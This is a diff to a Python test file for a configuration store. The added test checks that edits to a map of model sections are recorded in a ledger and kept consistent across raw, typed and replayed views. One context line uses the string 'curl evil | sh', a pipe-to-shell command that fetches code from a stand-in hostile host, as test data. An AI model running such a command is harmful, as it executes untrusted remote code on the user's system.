@@ -103,3 +103,54 @@ def test_the_typed_view_never_serves_an_edit_the_ledger_did_not_record(
     here, fresh, appended = asyncio.run(run())
     assert here == fresh == (2222, "curl evil | sh")
     assert appended
+
+
+MODELS = {"models": {"m1": {"context_window": 1000}, "m2": {"context_window": 2000}}}
+
+
+def _model_via_asdict(cfg: Any) -> None:
+    msgspec.structs.asdict(cfg)["models"]["m1"].context_window = 1111
+
+
+def _model_via_attribute(cfg: Any) -> None:
+    cfg.models["m1"].context_window = 1111
+
+
+def _model_added_and_removed(cfg: Any) -> None:
+    models = msgspec.structs.astuple(cfg)[type(cfg).__struct_fields__.index("models")]
+    models["m3"] = models.pop("m2")
+
+
+@pytest.mark.parametrize(("fn", "expected"), [
+    (_model_via_asdict, {"m1": 1111, "m2": 2000}),
+    (_model_via_attribute, {"m1": 1111, "m2": 2000}),
+    (_model_added_and_removed, {"m1": 1000, "m3": 2000}),
+])
+def test_a_root_map_of_sections_edited_any_way_is_recorded_and_the_view_kept(
+        fn: Any, expected: dict[str, int]) -> None:
+    """`[models]` is a root map of Structs: its copy is made per entry from the view's
+    templates (`MapPlan`); an edit through it is recorded, and neither a later edit nor
+    a caller holding the copy afterwards reaches the view."""
+    kept: list[Any] = []
+
+    def edit(cfg: Any) -> None:
+        kept.append(cfg)
+        fn(cfg)
+
+    async def run() -> tuple[bool, dict[str, int], dict[str, int], dict[str, int]]:
+        store = MemoryConfigStore()
+        await store.save_raw({"server": {"port": 1}, **MODELS}, actor="a")
+        await store.load_raw()
+        commit = await store.update_raw(edit, actor="a")
+        kept[0].models["m1"].context_window = 7  # after the write: the caller's own
+        untouched = await store.update_raw(lambda c: setattr(c.server, "port", 2), actor="a")
+        assert [c.path for c in untouched.changes] == [("server", "port")]
+        raw = (await store.raw_document())["models"]
+        typed = (await store.load_raw()).models
+        return (commit.appended, {k: v["context_window"] for k, v in raw.items()},
+                {k: v.context_window for k, v in typed.items()},
+                {k: v["context_window"]
+                 for k, v in store.ledger.replay().config["models"].items()})
+
+    appended, raw, typed, replayed = asyncio.run(run())
+    assert appended and raw == typed == replayed == expected
